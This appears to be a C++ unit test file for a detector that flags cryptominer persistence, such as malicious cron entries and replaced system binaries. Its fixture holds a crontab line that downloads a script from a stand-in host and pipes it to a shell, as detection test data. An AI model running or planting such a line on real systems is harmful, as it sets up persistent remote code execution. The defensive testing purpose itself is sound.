// minerwatch — SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "detectors/host_detector_testing.h"

namespace mw {
namespace {

using hostscan::AutostartEvent;
using hostscan::PersistenceHit;
using testing::HostEngine;

PersistenceHit CronDownload() {
  return {
      .file = "/etc/crontab",
      .line = 3,
      .text = "* * * * * root curl -s http://x.example/m.sh | sh",
      .kind = "cron",
      .reasons = {{hostscan::AutostartReason::Kind::kDownloadsAndRuns, "downloads and runs code"}},
      .attack = "T1053.003"};
}

TEST(PersistenceDetector, DownloadAndRunIsAHighAutostartFinding) {
  HostEngine engine;
  PersistenceHit h = CronDownload();
  engine.bus().Publish(AutostartEvent{HostEngine::kHost, "/mnt/img", h});
  const Finding* f = engine.Find(category::kMinerAutostart);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->indicator, "/etc/crontab:3");
  EXPECT_EQ(f->detector, "persistence");
  EXPECT_EQ(f->stage, Stage::kPrecursor);
  EXPECT_EQ(f->severity, Severity::kHigh);
  EXPECT_EQ(f->attack, (std::vector<std::string>{"T1496", "T1053.003"}));
  EXPECT_EQ(f->source, "cron");
  EXPECT_EQ(f->evidence["persistence"]["root"], "/mnt/img");
  EXPECT_EQ(f->evidence["reasons"][0], "downloads and runs code");
}

TEST(PersistenceDetector, ReplacedSystemBinaryIsItsPathAndMedium) {
  HostEngine engine;
  PersistenceHit h{
      .file = "/usr/bin/top",
      .line = 0,
      .kind = std::string(hostscan::kSystemBinaryKind),
      .reasons = {{hostscan::AutostartReason::Kind::kReplacedBinary,
                   "system binary differs from the file its Debian package installed"}},
      .attack = "T1036.005"};
  engine.bus().Publish(hostscan::ReplacedBinaryEvent{HostEngine::kHost, "/", h});
  const Finding* f = engine.Find(category::kMinerAutostart);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->indicator, "/usr/bin/top");
  EXPECT_EQ(f->source, "system-binary");
  EXPECT_EQ(f->severity, Severity::kMedium);
}

TEST(PersistenceDetector, SwitchedOffReportsNothing) {
  HostEngine engine({"persistence"});
  PersistenceHit h = CronDownload();
  engine.bus().Publish(AutostartEvent{HostEngine::kHost, "/", h});
  EXPECT_EQ(engine.findings().size(), 0u);
}

}  // namespace
}  // namespace mw
